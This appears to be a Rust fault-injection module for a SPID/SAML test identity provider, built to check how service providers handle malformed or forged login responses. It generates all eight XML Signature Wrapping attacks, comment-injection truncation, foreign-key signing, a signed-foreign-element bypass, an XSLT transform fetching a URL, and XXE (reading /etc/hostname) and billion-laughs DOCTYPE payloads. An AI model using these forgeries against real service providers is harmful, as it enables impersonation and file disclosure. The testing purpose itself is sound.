//! Fault injection: a plan the IdP carries out on its next Response. The IdP always builds the
//! honest Response first; the plan then edits the tree before signing, chooses what is signed
//! and with which key, and edits the signed tree afterwards (wrapping attacks live there).

use chrono::{DateTime, Duration, Utc};
use serde::{Deserialize, Serialize};
use spid_core::errors::SpidError;
use spid_core::saml::xml::{Element, Node};
use spid_core::saml::{new_id, ns};
use spid_core::SpidLevel;

/// An element of the Response a mutation addresses.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Target {
    /// samlp:Response.
    Response,
    /// Response saml:Issuer.
    ResponseIssuer,
    /// samlp:Status.
    Status,
    /// The top StatusCode.
    StatusCode,
    /// saml:Assertion.
    Assertion,
    /// Assertion saml:Issuer.
    AssertionIssuer,
    /// saml:Subject.
    Subject,
    /// saml:NameID.
    NameId,
    /// saml:SubjectConfirmation.
    SubjectConfirmation,
    /// saml:SubjectConfirmationData.
    SubjectConfirmationData,
    /// saml:Conditions.
    Conditions,
    /// saml:AudienceRestriction.
    AudienceRestriction,
    /// saml:Audience.
    Audience,
    /// saml:AuthnStatement.
    AuthnStatement,
    /// saml:AuthnContext.
    AuthnContext,
    /// saml:AuthnContextClassRef.
    AuthnContextClassRef,
    /// saml:AttributeStatement.
    AttributeStatement,
    /// The first saml:Attribute.
    FirstAttribute,
    /// The first saml:Attribute's first AttributeValue.
    FirstAttributeValue,
    /// The Assertion signature's SignatureMethod.
    AssertionSignatureMethod,
    /// The Assertion signature's DigestMethod.
    AssertionDigestMethod,
}

impl Target {
    /// The path of (namespace, local name) steps from the Response.
    fn path(self) -> &'static [(&'static str, &'static str)] {
        use Target::*;
        const A: (&str, &str) = (ns::SAML, "Assertion");
        const S: (&str, &str) = (ns::SAML, "Subject");
        const SC: (&str, &str) = (ns::SAML, "SubjectConfirmation");
        const C: (&str, &str) = (ns::SAML, "Conditions");
        const AR: (&str, &str) = (ns::SAML, "AudienceRestriction");
        const AS: (&str, &str) = (ns::SAML, "AuthnStatement");
        const AC: (&str, &str) = (ns::SAML, "AuthnContext");
        const ATS: (&str, &str) = (ns::SAML, "AttributeStatement");
        const SIG: (&str, &str) = (ns::DS, "Signature");
        const SI: (&str, &str) = (ns::DS, "SignedInfo");
        match self {
            Response => &[],
            ResponseIssuer => &[(ns::SAML, "Issuer")],
            Status => &[(ns::SAMLP, "Status")],
            StatusCode => &[(ns::SAMLP, "Status"), (ns::SAMLP, "StatusCode")],
            Assertion => &[A],
            AssertionIssuer => &[A, (ns::SAML, "Issuer")],
            Subject => &[A, S],
            NameId => &[A, S, (ns::SAML, "NameID")],
            SubjectConfirmation => &[A, S, SC],
            SubjectConfirmationData => &[A, S, SC, (ns::SAML, "SubjectConfirmationData")],
            Conditions => &[A, C],
            AudienceRestriction => &[A, C, AR],
            Audience => &[A, C, AR, (ns::SAML, "Audience")],
            AuthnStatement => &[A, AS],
            AuthnContext => &[A, AS, AC],
            AuthnContextClassRef => &[A, AS, AC, (ns::SAML, "AuthnContextClassRef")],
            AttributeStatement => &[A, ATS],
            FirstAttribute => &[A, ATS, (ns::SAML, "Attribute")],
            FirstAttributeValue => &[
                A,
                ATS,
                (ns::SAML, "Attribute"),
                (ns::SAML, "AttributeValue"),
            ],
            AssertionSignatureMethod => &[A, SIG, SI, (ns::DS, "SignatureMethod")],
            AssertionDigestMethod => &[A, SIG, SI, (ns::DS, "Reference"), (ns::DS, "DigestMethod")],
        }
    }

    /// Finds the target in `root` (a Response).
    pub fn find_mut(self, root: &mut Element) -> Option<&mut Element> {
        let mut cur = root;
        for (n, l) in self.path() {
            cur = cur.child_mut(n, l)?;
        }
        Some(cur)
    }
}

/// One edit of the Response tree.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "op", rename_all = "kebab-case", deny_unknown_fields)]
pub enum Mutation {
    /// Sets (or adds) an attribute.
    SetAttr {
        /// Where.
        target: Target,
        /// Attribute name.
        name: String,
        /// New value.
        value: String,
    },
    /// Removes an attribute.
    RemoveAttr {
        /// Where.
        target: Target,
        /// Attribute name.
        name: String,
    },
    /// Replaces the element's content with text.
    SetText {
        /// Where.
        target: Target,
        /// New text.
        value: String,
    },
    /// Removes the element.
    Remove {
        /// What.
        target: Target,
    },
    /// Removes the element's children and text, keeping its attributes.
    Empty {
        /// What.
        target: Target,
    },
    /// Sets an attribute to the IdP's current time plus `offset` seconds.
    SetInstant {
        /// Where.
        target: Target,
        /// Attribute name.
        name: String,
        /// Seconds from now (negative: past).
        #[serde(default)]
        offset: i64,
        /// How many fractional digits.
        #[serde(default)]
        precision: Precision,
    },
    /// Removes attribute `name` from every element whose local name is `element`.
    RemoveAttrEverywhere {
        /// Local name of the elements.
        element: String,
        /// Attribute name.
        name: String,
    },
    /// Splits the target's text with a comment (`ab<!---->c`): XML canonicalisation drops
    /// comments, so a signature still verifies while naive text readers see a truncated value.
    InjectComment {
        /// Where.
        target: Target,
    },
    /// Appends a copy of the (signed) Assertion with a new ID after it.
    DuplicateAssertion,
    /// XML Signature Wrapping, variants 1–8 (the SAML Raider numbering).
    Xsw {
        /// 1..=8.
        variant: u8,
    },
    /// Adds an XSLT transform to the Response signature's Transforms.
    XsltTransform,
    /// Puts a correctly signed foreign element (the IdP's own signed metadata) first in the
    /// Response, the signature-verification bypass of spid-saml-check 112/113.
    SignedForeignElement,
}

/// Fractional-second digits of a generated instant.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Precision {
    /// `…:SS.mmmZ`.
    #[default]
    Millis,
    /// `…:SS.uuuuuuZ`.
    Micros,
    /// `…:SSZ`.
    Seconds,
}

/// An edit of the serialised document (what a tree cannot express).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "op", rename_all = "kebab-case", deny_unknown_fields)]
pub enum RawMutation {
    /// Prepends a DOCTYPE.
    Doctype {
        /// Which.
        kind: DoctypeKind,
    },
    /// Appends text after the root element.
    Append {
        /// What.
        text: String,
    },
    /// Prepends `<?xml version="1.0" encoding="UTF-8"?>`.
    XmlDeclaration,
    /// Replaces the first occurrence of `from` with `to`.
    ReplaceFirst {
        /// Text to find.
        from: String,
        /// Replacement.
        to: String,
    },
}

/// How the Response travels, when the binding itself is the fault.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum BindingFault {
    /// The SAMLResponse field is empty.
    Missing,
    /// SAMLResponse is not base64.
    NotBase64,
    /// SAMLResponse decodes to more than a 256 KiB bound (300 KiB of padding).
    Oversize,
}

/// DOCTYPE payloads.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum DoctypeKind {
    /// An external entity (XXE) referenced from the NameID.
    Xxe,
    /// Nested entity expansion ("billion laughs").
    BillionLaughs,
    /// A harmless internal subset, no entity used.
    Internal,
}

impl RawMutation {
    /// Applies the edit to the serialised document; an edit whose anchor text is absent is an
    /// error (the case would otherwise send the honest message under its name).
    pub fn apply(&self, xml: &str) -> Result<String, RawMutationError> {
        let anchor = match self {
            RawMutation::Doctype {
                kind: DoctypeKind::Xxe | DoctypeKind::BillionLaughs,
            } => Some("</saml:NameID>"),
            RawMutation::ReplaceFirst { from, .. } => Some(from.as_str()),
            _ => None,
        };
        if let Some(a) = anchor {
            if !xml.contains(a) {
                return Err(RawMutationError(a.to_string()));
            }
        }
        Ok(match self {
            RawMutation::Doctype { kind } => {
                let (dtd, body) = match kind {
                    DoctypeKind::Xxe => (
                        r#"<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>"#,
                        xml.replacen("</saml:NameID>", "&xxe;</saml:NameID>", 1),
                    ),
                    DoctypeKind::BillionLaughs => (
                        r#"<!DOCTYPE samlp:Response [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">]>"#,
                        xml.replacen("</saml:NameID>", "&f;</saml:NameID>", 1),
                    ),
                    DoctypeKind::Internal => (
                        r#"<!DOCTYPE samlp:Response [<!ELEMENT x ANY>]>"#,
                        xml.to_string(),
                    ),
                };
                format!("{dtd}{body}")
            }
            RawMutation::Append { text } => format!("{xml}{text}"),
            RawMutation::ReplaceFirst { from, to } => xml.replacen(from.as_str(), to, 1),
            RawMutation::XmlDeclaration => {
                format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n{xml}")
            }
        })
    }
}

/// A raw edit whose anchor text is not in the serialised document.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("text `{0}` not found in the serialised Response")]
pub struct RawMutationError(pub String);

/// Which key signs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum SigningKey {
    /// The IdP's own key (the one in its metadata).
    #[default]
    Idp,
    /// A foreign (attacker) key, its certificate in KeyInfo.
    Foreign,
}

/// What is signed, and how.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct SignSpec {
    /// Sign the Assertion.
    pub assertion: bool,
    /// Sign the Response.
    pub response: bool,
    /// With which key.
    pub key: SigningKey,
    /// Which certificate travels in KeyInfo.
    pub keyinfo: KeyInfoCert,
}

/// The certificate put in `ds:KeyInfo` (a verifier must ignore it and use metadata).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum KeyInfoCert {
    /// The signer's own certificate.
    #[default]
    Signer,
    /// The IdP's metadata certificate, whoever signs.
    Idp,
    /// The foreign certificate, whoever signs.
    Foreign,
    /// No KeyInfo.
    None,
}

impl Default for SignSpec {
    fn default() -> Self {
        SignSpec {
            assertion: true,
            response: true,
            key: SigningKey::Idp,
            keyinfo: KeyInfoCert::Signer,
        }
    }
}

/// A plan for the next Response.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct FaultPlan {
    /// Grant this level instead of the honest one.
    pub level: Option<SpidLevel>,
    /// Answer with this SPID error instead of a login.
    pub status: Option<u8>,
    /// Edits before signing (the signature covers them).
    pub pre_sign: Vec<Mutation>,
    /// Signing.
    pub sign: SignSpec,
    /// Edits after signing (they break or dodge the signature).
    pub post_sign: Vec<Mutation>,
    /// Edits of the serialised document.
    pub raw: Vec<RawMutation>,
    /// Break the HTTP-POST binding itself.
    pub binding: Option<BindingFault>,
    /// Release exactly these attributes (placeholder values where the user has none),
    /// instead of the requested set.
    pub attributes: Option<Vec<String>>,
}

impl FaultPlan {
    /// The SPID error to answer with, if any.
    pub fn spid_error(&self) -> Option<SpidError> {
        self.status.map(SpidError)
    }
}

/// Why a mutation could not be applied (the target is absent in this Response).
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("mutation target {0:?} not present")]
pub struct MutationError(pub Target);

/// What mutations may need besides the tree.
#[derive(Debug, Clone, Copy)]
pub struct MutationCtx<'a> {
    /// The IdP's current time.
    pub now: DateTime<Utc>,
    /// A correctly signed foreign element (for [`Mutation::SignedForeignElement`]).
    pub signed_foreign: Option<&'a Element>,
}

fn find(root: &mut Element, t: Target) -> Result<&mut Element, MutationError> {
    t.find_mut(root).ok_or(MutationError(t))
}

fn instant(now: DateTime<Utc>, offset: i64, p: Precision) -> String {
    let t = now + Duration::seconds(offset);
    match p {
        Precision::Millis => t.format("%Y-%m-%dT%H:%M:%S%.3fZ"),
        Precision::Micros => t.format("%Y-%m-%dT%H:%M:%S%.6fZ"),
        Precision::Seconds => t.format("%Y-%m-%dT%H:%M:%SZ"),
    }
    .to_string()
}

/// Applies `m` to `root`.
pub fn apply(root: &mut Element, m: &Mutation, ctx: &MutationCtx<'_>) -> Result<(), MutationError> {
    match m {
        Mutation::SetAttr {
            target,
            name,
            value,
        } => find(root, *target)?.set_attr(name, value.clone()),
        Mutation::RemoveAttr { target, name } => {
            find(root, *target)?.remove_attr(name);
        }
        Mutation::SetText { target, value } => find(root, *target)?.set_text(value.clone()),
        Mutation::Empty { target } => find(root, *target)?.children.clear(),
        Mutation::Remove { target } => {
            let path = target.path();
            let Some(((n, l), parent_path)) = path.split_last() else {
                return Err(MutationError(*target));
            };
            let mut cur = &mut *root;
            for (pn, pl) in parent_path {
                cur = cur.child_mut(pn, pl).ok_or(MutationError(*target))?;
            }
            let i = cur.child_index(n, l).ok_or(MutationError(*target))?;
            cur.children.remove(i);
        }
        Mutation::SetInstant {
            target,
            name,
            offset,
            precision,
        } => {
            find(root, *target)?.set_attr(name, instant(ctx.now, *offset, *precision));
        }
        Mutation::RemoveAttrEverywhere { element, name } => remove_everywhere(root, element, name),
        Mutation::InjectComment { target } => {
            let el = find(root, *target)?;
            let text = el.text();
            let cut = text
                .char_indices()
                .nth(text.chars().count().saturating_sub(1).max(1))
                .map(|(i, _)| i)
                .unwrap_or(text.len());
            let (a, b) = text.split_at(cut);
            el.children = vec![
                Node::Text(a.into()),
                Node::Comment(String::new()),
                Node::Text(b.into()),
            ];
        }
        Mutation::DuplicateAssertion => {
            let i = root
                .child_index(ns::SAML, "Assertion")
                .ok_or(MutationError(Target::Assertion))?;
            let mut copy = assertion_at(root, i).clone();
            copy.set_attr("ID", new_id());
            root.children.insert(i + 1, Node::Element(copy));
        }
        Mutation::Xsw { variant } => xsw(root, *variant)?,
        Mutation::XsltTransform => {
            let sig = root
                .child_mut(ns::DS, "Signature")
                .ok_or(MutationError(Target::Response))?;
            let transforms = sig
                .child_mut(ns::DS, "SignedInfo")
                .and_then(|si| si.child_mut(ns::DS, "Reference"))
                .and_then(|r| r.child_mut(ns::DS, "Transforms"))
                .ok_or(MutationError(Target::Response))?;
            let xsl = Element::new(
                "xsl:stylesheet",
                Some("http://www.w3.org/1999/XSL/Transform"),
            )
            .with_attr("xmlns:xsl", "http://www.w3.org/1999/XSL/Transform")
            .with_attr("version", "1.0")
            .with_child(
                Element::new("xsl:template", Some("http://www.w3.org/1999/XSL/Transform"))
                    .with_attr("match", "doc")
                    .with_child(
                        Element::new("xsl:variable", Some("http://www.w3.org/1999/XSL/Transform"))
                            .with_attr("name", "x")
                            .with_attr("select", "unparsed-text('http://127.0.0.1:9/xslt')"),
                    ),
            );
            transforms.children.push(Node::Element(
                Element::new("ds:Transform", Some(ns::DS))
                    .with_attr("Algorithm", "http://www.w3.org/TR/1999/REC-xslt-19991116")
                    .with_child(xsl),
            ));
        }
        Mutation::SignedForeignElement => {
            let el = ctx
                .signed_foreign
                .ok_or(MutationError(Target::Response))?
                .clone();
            root.children.insert(0, Node::Element(el));
        }
    }
    Ok(())
}

fn remove_everywhere(el: &mut Element, local: &str, name: &str) {
    if el.local() == local {
        el.remove_attr(name);
    }
    for c in el.elements_mut() {
        remove_everywhere(c, local, name);
    }
}

fn assertion_at(root: &Element, i: usize) -> &Element {
    match &root.children[i] {
        Node::Element(e) => e,
        _ => unreachable!("child_index returns element positions"),
    }
}

/// An attacker's copy of `a`: new ID, another NameID, no signature.
fn evil_copy(a: &Element) -> Element {
    let mut e = a.clone();
    e.set_attr("ID", new_id());
    strip_signature(&mut e);
    if let Some(n) = Target::NameId.path().get(1..).and_then(|p| {
        let mut cur = &mut e;
        for (pn, pl) in p {
            cur = cur.child_mut(pn, pl)?;
        }
        Some(cur)
    }) {
        n.set_text("_evil-attacker-subject");
    }
    e
}

fn xsw(root: &mut Element, variant: u8) -> Result<(), MutationError> {
    let i = root
        .child_index(ns::SAML, "Assertion")
        .ok_or(MutationError(Target::Assertion))?;
    let original = assertion_at(root, i).clone();
    match variant {
        // 1, 2: a forged Response around (1) or beside (2) the original signed Response.
        1 | 2 => {
            let signed = root.clone();
            let mut evil = root.clone();
            evil.set_attr("ID", new_id());
            let ai = evil
                .child_index(ns::SAML, "Assertion")
                .ok_or(MutationError(Target::Assertion))?;
            evil.children[ai] = Node::Element(evil_copy(&original));
            let si = evil
                .child_index(ns::DS, "Signature")
                .ok_or(MutationError(Target::Response))?;
            if variant == 1 {
                if let Node::Element(sig) = &mut evil.children[si] {
                    sig.children.push(Node::Element(signed));
                }
            } else {
                evil.children.insert(si, Node::Element(signed));
            }
            *root = evil;
        }
        // 3: evil Assertion before the signed one.
        3 => root.children.insert(i, Node::Element(evil_copy(&original))),
        // 4: the signed Assertion nested inside the evil one.
        4 => {
            let mut evil = evil_copy(&original);
            evil.children.push(Node::Element(original));
            root.children[i] = Node::Element(evil);
        }
        // 5: the original signature moved into an evil copy; the original, unsigned, after it.
        5 => {
            let mut evil = original.clone();
            if let Some(n) = evil
                .child_mut(ns::SAML, "Subject")
                .and_then(|s| s.child_mut(ns::SAML, "NameID"))
            {
                n.set_text("_evil-attacker-subject");
            }
            let mut orig = original;
            strip_signature(&mut orig);
            orig.set_attr("ID", new_id());
            root.children[i] = Node::Element(evil);
            root.children.insert(i + 1, Node::Element(orig));
        }
        // 6: the evil Assertion inside the original Assertion's signature.
        6 => {
            let evil = evil_copy(&original);
            let mut orig = original;
            if let Some(sig) = orig.child_mut(ns::DS, "Signature") {
                sig.children.push(Node::Element(evil));
            }
            root.children[i] = Node::Element(orig);
        }
        // 7: the signed Assertion hidden in an Extensions element, the evil one in its place.
        7 => {
            root.children[i] = Node::Element(evil_copy(&original));
            let ext = Element::new("samlp:Extensions", Some(ns::SAMLP)).with_child(original);
            let at = root.child_index(ns::SAMLP, "Status").unwrap_or(0);
            root.children.insert(at, Node::Element(ext));
        }
        // 8: the evil Assertion carries the original signature, the original in a ds:Object.
        8 => {
            let mut evil = evil_copy(&original);
            let mut sig = original
                .child(ns::DS, "Signature")
                .cloned()
                .ok_or(MutationError(Target::Assertion))?;
            let mut orig = original;
            strip_signature(&mut orig);
            sig.children.push(Node::Element(
                Element::new("ds:Object", Some(ns::DS)).with_child(orig),
            ));
            let at = evil
                .child_index(ns::SAML, "Issuer")
                .map(|x| x + 1)
                .unwrap_or(0);
            evil.children.insert(at, Node::Element(sig));
            root.children[i] = Node::Element(evil);
        }
        _ => return Err(MutationError(Target::Assertion)),
    }
    Ok(())
}

/// Removes `ds:Signature` children of an element (used when a part must stay unsigned).
pub fn strip_signature(el: &mut Element) {
    el.children
        .retain(|n| !matches!(n, Node::Element(e) if e.is(ns::DS, "Signature")));
}

#[cfg(test)]
mod tests {
    use super::*;

    fn resp() -> Element {
        Element::new("samlp:Response", Some(ns::SAMLP)).with_child(
            Element::new("saml:Assertion", Some(ns::SAML))
                .with_attr("ID", "_a")
                .with_child(
                    Element::new("saml:Conditions", Some(ns::SAML)).with_child(
                        Element::new("saml:AudienceRestriction", Some(ns::SAML)).with_child(
                            Element::new("saml:Audience", Some(ns::SAML)).with_text("sp"),
                        ),
                    ),
                ),
        )
    }

    fn ap(r: &mut Element, m: Mutation) -> Result<(), MutationError> {
        apply(
            r,
            &m,
            &MutationCtx {
                now: Utc::now(),
                signed_foreign: None,
            },
        )
    }

    #[test]
    fn set_text_remove_and_missing_target() {
        let mut r = resp();
        ap(
            &mut r,
            Mutation::SetText {
                target: Target::Audience,
                value: "evil".into(),
            },
        )
        .unwrap();
        assert_eq!(Target::Audience.find_mut(&mut r).unwrap().text(), "evil");
        ap(
            &mut r,
            Mutation::Remove {
                target: Target::AudienceRestriction,
            },
        )
        .unwrap();
        assert!(Target::Audience.find_mut(&mut r).is_none());
        assert_eq!(
            ap(
                &mut r,
                Mutation::Remove {
                    target: Target::Audience
                }
            ),
            Err(MutationError(Target::Audience))
        );
        ap(
            &mut r,
            Mutation::RemoveAttr {
                target: Target::Assertion,
                name: "ID".into(),
            },
        )
        .unwrap();
        assert_eq!(Target::Assertion.find_mut(&mut r).unwrap().attr("ID"), None);
    }

    fn count_assertions(e: &Element) -> usize {
        e.descendants()
            .iter()
            .filter(|d| d.local() == "Assertion")
            .count()
    }

    #[test]
    fn every_xsw_variant_adds_an_unsigned_assertion() {
        for v in 1..=8 {
            let mut r = resp();
            r.children
                .insert(0, Node::Element(Element::new("ds:Signature", Some(ns::DS))));
            if let Some(a) = r.child_mut(ns::SAML, "Assertion") {
                a.children
                    .insert(0, Node::Element(Element::new("ds:Signature", Some(ns::DS))));
            }
            ap(&mut r, Mutation::Xsw { variant: v }).unwrap();
            assert!(count_assertions(&r) >= 2, "xsw{v}");
        }
        assert!(ap(&mut resp(), Mutation::Xsw { variant: 9 }).is_err());
    }

    #[test]
    fn comment_injection_and_raw_edits() {
        let mut r = resp();
        ap(
            &mut r,
            Mutation::InjectComment {
                target: Target::Audience,
            },
        )
        .unwrap();
        let aud = Target::Audience.find_mut(&mut r).unwrap();
        assert_eq!(aud.text(), "sp");
        assert!(aud.has_comment());
        let x = RawMutation::Doctype {
            kind: DoctypeKind::Xxe,
        }
        .apply("<samlp:Response><saml:NameID>n</saml:NameID></samlp:Response>")
        .unwrap();
        assert!(x.starts_with("<!DOCTYPE") && x.contains("&xxe;</saml:NameID>"));
        assert!(RawMutation::Append {
            text: "junk".into()
        }
        .apply("<r/>")
        .unwrap()
        .ends_with("junk"));
        // An edit whose anchor is absent is an error, never the honest message.
        let miss = RawMutation::ReplaceFirst {
            from: "<saml:Nowhere".into(),
            to: "x".into(),
        }
        .apply("<r/>");
        assert_eq!(miss, Err(RawMutationError("<saml:Nowhere".into())));
    }

    #[test]
    fn plan_parses_from_toml_and_refuses_unknown_keys() {
        let p: FaultPlan = toml::from_str(
            r#"
level = "L1"
[[pre_sign]]
op = "set-text"
target = "audience"
value = "x"
"#,
        )
        .unwrap();
        assert_eq!(p.level, Some(SpidLevel::L1));
        assert!(toml::from_str::<FaultPlan>("levle = \"L1\"").is_err());
        assert!(toml::from_str::<FaultPlan>("[[pre_sign]]\nop = \"explode\"").is_err());
    }
}
